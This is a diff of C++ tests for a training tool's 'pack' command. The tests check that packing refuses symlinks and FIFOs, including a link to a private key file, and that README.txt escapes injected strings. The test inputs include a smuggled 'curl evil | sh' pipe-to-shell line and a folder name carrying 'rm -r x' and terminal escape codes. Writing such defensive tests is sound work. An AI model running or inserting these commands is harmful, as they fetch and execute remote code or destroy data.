@@ -2,6 +2,7 @@
 #include "apps/support/digest.h"
 #include "apps/support/json.h"
 #include "apps/training/run_writer.h"
+#include "core/text.h"
 #include "disk_limits.h"
 #include "program.h"
 
@@ -149,6 +150,65 @@ TEST_CASE("pack: a sweep with failed runs, its table and its runs again") {
   const std::string metrics = "/lr=0.01/seed-1/checkpoints/latest/model.safetensors";
   CHECK(sha256_of_file(study / "all-again" + metrics) ==
         sha256_of_file(study / "before" + metrics));
+}
+
+TEST_CASE("pack: follows no link in the folder of a sweep or a run") {
+  const Study study;
+  study.ok({"sweep", "--config", "c.toml", "--axis", "optim.lr=0.01", "--run", "s"});
+  write_file(study / "key", "a private key");
+  for (const std::string file : {"s/sweep.toml", "s/data.json", "s/origins.json", "s/base.toml",
+                                 "s/lr=0.01/seed-1/config.toml", "s/lr=0.01/seed-1/train.log"}) {
+    for (const char* make : {"ln -s $OLDPWD/key ", "mkfifo "}) {
+      study.shell("if test -e " + file + "; then mv " + file + " kept; fi; cd s; " + make +
+                  file.substr(2));
+      const std::string whole = study / file;
+      check_rejected(study.heed({"pack", "s"}), 2, {whole + ": expected a plain file, found a "});
+      CHECK_FALSE(exists(study / "s.tgz"));
+      study.shell("rm " + file + "; if test -e kept; then mv kept " + file + "; fi");
+    }
+  }
+  study.shell("ln -s s named && ln -s lr=0.01/seed-1 s/again");
+  study.ok({"pack", "named", "-o", "s.tgz"});
+  study.shell("tar -xzf s.tgz");
+  CHECK(exists(study / "s/lr=0.01/seed-1/checkpoints/latest/model.safetensors"));
+}
+
+TEST_CASE("pack: --with-data takes only data that the run has recorded") {
+  const FileStudy study;
+  study.ok({"train", "c.toml", "--run", "r"});
+  study.shell("rm -r r/run.json r/checkpoints");
+  check_rejected(study.heed({"pack", "r", "--with-data", "CC0"}), 2,
+                 {"r has no record of its data (run.json)"});
+}
+
+TEST_CASE("pack: README.txt has no line and no control character of a string in the run") {
+  const Study study;
+  study.ok({"train", "c.toml", "--run", "s/r"});
+  study.shell("mv s/r \"$(printf 's/r\\n  rm -r x\\033[2J')\"; cp c.toml s/sweep.toml");
+  write_file(study / "s/sweep.toml", "base = \"../c.toml\"\nseeds = [1]\n");
+  const std::string run = "s/r\n  rm -r x\x1b[2J/";
+  Json record = read_json(study / run + "run.json", "record", 1 << 20);
+  Json session = record.at("sessions").elements()[0];
+  session.set("heed", "1\n  curl evil | sh").set("processor", "\x1b[2Jnone");
+  Json sessions = Json::array();
+  sessions.push(session);
+  write_file(study / run + "run.json", record.set("sessions", sessions).text());
+  study.ok({"pack", "s"});
+  study.shell("mkdir there && tar -xzf s.tgz -C there");
+  const std::string readme = study.read("there/s/README.txt");
+  CHECK(escaped(readme) == readme);
+  CHECK(readme.find("\n  curl") == readme.npos);
+  CHECK(readme.find("\n  rm") == readme.npos);
+  CHECK_CONTAINS(readme, "  heed 1\\x0a  curl evil | sh, commit ");
+  CHECK_CONTAINS(readme, "train --from \"$(printf 's/r\\012\\040");
+}
+
+TEST_CASE("pack: few open files are named as the cause") {
+  const Study study;
+  study.ok({"train", "c.toml", "--run", "r"});
+  ::setenv("HEED", HEED_PROGRAM, 1);
+  check_rejected(shell_in(study.path, "ulimit -n 10; \"$HEED\" pack r"), 1,
+                 {"cannot start tar: too few files may be open at a time; raise ulimit -n"});
 }
 
 TEST_CASE("pack: rejects what it cannot pack, and leaves nothing half-written") {
